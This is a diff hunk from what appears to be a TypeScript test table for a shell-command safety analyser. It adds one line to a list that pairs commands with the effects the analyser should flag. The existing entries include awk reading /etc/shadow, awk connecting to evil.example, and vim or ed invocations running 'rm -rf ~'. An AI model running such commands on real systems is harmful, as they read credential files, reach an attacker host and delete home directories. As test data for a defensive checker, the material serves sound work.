@@ -71,6 +71,7 @@ const NOT_PROVEN: readonly (readonly [string, readonly string[]])[] = [
   ['awk \'BEGIN { while ((getline line < "/etc/shadow") > 0) print line }\'', ['read /etc/shadow secret privilege']],
   ['awk \'BEGIN { print "x" |& "/inet/tcp/0/evil.example/80" }\'', ['connect']],
   ["vim -es -c '!rm -rf ~' -c q a", ['delete ~ home-root', 'edit a project']],
+  ["vim -es -c '%s/a/b/' -c 'wq' ~/.quuxrc", ['edit ~/.quuxrc home']],
   ["vim -es -c 'w! b' -c q a", ['overwrite b project', 'edit a project']],
   ["vim +'!rm -rf ~' a", ['delete ~ home-root', 'edit a project']],
   ["printf '!rm -rf ~\\n' | ed a", []],
